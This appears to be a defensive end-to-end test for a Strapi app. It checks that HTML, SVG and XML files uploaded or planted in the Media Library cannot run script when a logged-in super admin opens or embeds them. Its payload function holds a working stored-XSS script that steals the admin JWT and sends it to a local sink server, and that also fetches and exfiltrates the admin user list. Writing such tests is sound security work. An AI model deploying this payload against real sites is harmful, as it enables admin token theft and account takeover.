import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { type Browser, type BrowserContext, type Request } from 'playwright-core';
import { launchChromium } from '../helpers/e2e';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startStrapi, type TestApp } from '../helpers/strapi';

/**
 * Stored XSS through the Media Library, in a real browser (class of Strapi
 * CVE-2026-22707). An admin with the default Author role tries to store pages
 * that steal the admin token; files already on the disk (uploaded before the
 * fix, or copied there) are planted too. A super admin, logged in (token in
 * localStorage and cookie, where the admin panel keeps it), opens each one
 * directly, in a frame, an object and an image of an app page. Nothing runs:
 * no title changed, no marker in the app's localStorage, no request to the
 * attacker's server or to /admin/users. The same payload served from another
 * origin does run in this browser, so the check can fail.
 */

const SUPER = { email: 'admin@solidarity.example', password: 'Solidarity-2026' };

let app: TestApp;
let browser: Browser;
let sink: http.Server;
let sinkUrl: string;
const hits: string[] = [];
const planted: string[] = [];

const payload = (label: string) => `<script>
document.title = 'owned ${label}';
try { localStorage.setItem('owned', '${label}'); } catch (e) {}
var token = null;
try { token = JSON.parse(localStorage.getItem('jwtToken')); } catch (e) {}
try { token = token || document.cookie; } catch (e) {}
new Image().src = '${'SINK'}/hit/${label}?t=' + encodeURIComponent(String(token));
fetch('/admin/users', { headers: { Authorization: 'Bearer ' + token } })
  .then(function (r) { return r.text(); })
  .then(function (b) { fetch('${'SINK'}/loot/${label}', { method: 'POST', mode: 'no-cors', body: b }); })
  .catch(function () {});
</script>`;

const page = (label: string) => `<!doctype html><html><head><title>upload</title></head><body>${payload(label)}</body></html>`;
const svg = (label: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><rect width="20" height="20"/>${payload(label).replace('<script>', '<script><![CDATA[').replace('</script>', ']]></script>')}</svg>`;
const xml = (label: string) =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${payload(label).replace('<script>', '<script><![CDATA[').replace('</script>', ']]></script>')}</body></html>`;

/** A 1×1 PNG. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');

const withSink = (text: string) => text.replaceAll('SINK', sinkUrl);

const login = async (who: { email: string; password: string }) => {
  const res = await fetch(`${app.url}/admin/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(who) });
  if (!res.ok) throw new Error(`login ${who.email}: ${res.status}`);
  return ((await res.json()) as { data: { token: string } }).data.token;
};

const upload = async (token: string, name: string, type: string, content: string | Buffer) => {
  const form = new FormData();
  form.append('files', new Blob([content], { type }), name);
  const res = await fetch(`${app.url}/upload`, { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: form });
  return { status: res.status, body: (await res.json()) as unknown };
};

beforeAll(async () => {
  sink = http.createServer((req, res) => {
    if (req.url?.startsWith('/control')) {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      return res.end(withSink(page('control')));
    }
    // what the payload sends (the browser also asks for /favicon.ico, and the control page's fetch('/admin/users') lands here)
    if (/^\/(hit|loot)\//.test(req.url ?? '')) hits.push(req.url ?? '');
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    return res.end();
  });
  await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', () => resolve()));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}`;
  app = await startStrapi();
  browser = await launchChromium();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  for (const file of planted) rmSync(file, { force: true });
  if (app) {
    const files = (await app.strapi.db.query('plugin::upload.file' as never).findMany({})) as object[];
    const service = app.strapi.plugin('upload').service('upload') as unknown as { remove(f: object): Promise<unknown> };
    for (const file of files) await service.remove(file);
  }
  await app?.stop();
  await new Promise<void>((resolve) => (sink ? sink.close(() => resolve()) : resolve()));
});

describe('a super admin opens what an Author stored', () => {
  it('runs none of it', async () => {
    // The Author's attempts: refused, or (if ever stored) opened below.
    const role = (await app.strapi.db.query('admin::role' as never).findOne({ where: { code: 'strapi-author' } })) as { id: number };
    const users = app.strapi.service('admin::user') as unknown as { create(a: object): Promise<unknown> };
    await users.create({ email: 'author@e2e.example', firstname: 'Ann', lastname: 'Author', password: 'Author-2026-pass', isActive: true, roles: [role.id] });
    const author = await login({ email: 'author@e2e.example', password: 'Author-2026-pass' });
    const urls: string[] = [];
    const attempts: [string, string, string][] = [
      ['page.html', 'text/html', withSink(page('upload-html'))],
      ['logo.svg', 'image/svg+xml', withSink(svg('upload-svg'))],
      ['data.xml', 'application/xml', withSink(xml('upload-xml'))],
      ['photo.png', 'image/png', withSink(page('upload-png'))],
      ['photo.jpg', 'image/jpeg', withSink(page('upload-jpg'))],
    ];
    for (const [name, type, content] of attempts) {
      const res = await upload(author, name, type, content);
      expect(res.status, name).toBeGreaterThanOrEqual(400);
      if (res.status === 201) urls.push(...(res.body as { url: string }[]).map((f) => f.url));
    }
    const image = await upload(author, 'real.png', 'image/png', PNG);
    expect(image.status).toBe(201);
    const imageUrl = (image.body as { url: string }[])[0]?.url as string;

    // Files already on the disk, from before the fix or copied there.
    const dir = path.join(app.strapi.dirs.static.public, 'uploads');
    mkdirSync(dir, { recursive: true });
    const plant = (name: string, content: string) => {
      const file = path.join(dir, name);
      writeFileSync(file, withSink(content));
      planted.push(file);
      urls.push(`/uploads/${name}`);
    };
    plant('e2e-planted-page.html', page('planted-html'));
    plant('e2e-planted-logo.svg', svg('planted-svg'));
    plant('e2e-planted-data.xml', xml('planted-xml'));
    plant('e2e-planted-page.xhtml', xml('planted-xhtml'));
    plant('e2e-planted-photo.png', page('planted-png'));
    plant('e2e-planted-photo.jpg', page('planted-jpg'));

    // The super admin, logged in as the admin panel keeps it.
    const token = await login(SUPER);
    const context: BrowserContext = await browser.newContext({ acceptDownloads: true });
    const requests: string[] = [];
    context.on('request', (r: Request) => requests.push(r.url()));
    const errors: string[] = [];
    await context.addCookies([{ name: 'jwtToken', value: token, url: app.url }]);
    const home = await context.newPage();
    home.on('pageerror', (e) => errors.push(e.message));
    await home.goto(`${app.url}/api/solidarity/topics`);
    // (browser code as strings: the test's TypeScript has no DOM types)
    await home.evaluate(`localStorage.setItem('jwtToken', ${JSON.stringify(JSON.stringify(token))})`);

    // Opened directly (an attachment downloads instead of rendering)...
    for (const url of urls) {
      const tab = await context.newPage();
      const download = tab.waitForEvent('download', { timeout: 5000 }).catch(() => null);
      const response = await tab.goto(`${app.url}${url}`, { waitUntil: 'load' }).catch(() => null);
      if (!response) expect(await download, `${url} neither rendered nor downloaded`).not.toBeNull();
      expect(await tab.title(), url).not.toMatch(/owned/);
      await tab.close();
    }
    // ...and inside an app page, as a frame, an object, an embed and an image.
    const frames = (await home.evaluate(`(async (list) => {
      const loaded = (el) => new Promise((resolve) => {
        el.addEventListener('load', () => resolve());
        el.addEventListener('error', () => resolve());
        setTimeout(resolve, 3000);
      });
      const waits = [];
      for (const url of list) {
        for (const tag of ['iframe', 'object', 'embed', 'img']) {
          const el = document.createElement(tag);
          if (tag === 'object') el.data = url;
          else el.src = url;
          document.body.append(el);
          waits.push(loaded(el));
        }
      }
      await Promise.all(waits);
      return Array.from(document.querySelectorAll('iframe')).map((f) => {
        try { return f.contentDocument ? f.contentDocument.title : '(opaque)'; } catch (e) { return '(opaque)'; }
      });
    })(${JSON.stringify(urls)})`)) as string[];
    expect(frames).toHaveLength(urls.length);
    for (const title of frames) expect(title).not.toMatch(/owned/);
    expect(await home.title()).not.toMatch(/owned/);
    expect(await home.evaluate(`localStorage.getItem('owned')`)).toBeNull();

    // The real image still shows in a page.
    const width = await home.evaluate(`(async () => {
      const img = new Image();
      img.src = ${JSON.stringify(imageUrl)};
      await img.decode();
      return img.naturalWidth;
    })()`);
    expect(width).toBe(1);

    // The control: the same payload from another origin runs in this browser.
    const control = await context.newPage();
    await control.goto(`${sinkUrl}/control`);
    expect(await control.title()).toBe('owned control');
    await expect.poll(() => hits.some((h) => h.startsWith('/hit/control')), { timeout: 10_000 }).toBe(true);

    // Nothing but the control reached the attacker, and no page asked for the admin accounts.
    expect(hits.filter((h) => !/^\/(hit|loot)\/control/.test(h))).toEqual([]);
    expect(requests.filter((r) => r.startsWith(app.url) && r.includes('/admin/users'))).toEqual([]);
    expect(requests.filter((r) => r.startsWith(sinkUrl) && !/\/(control|hit\/control|loot\/control|admin\/users)/.test(r))).toEqual([]);
    await context.close();
  });
});
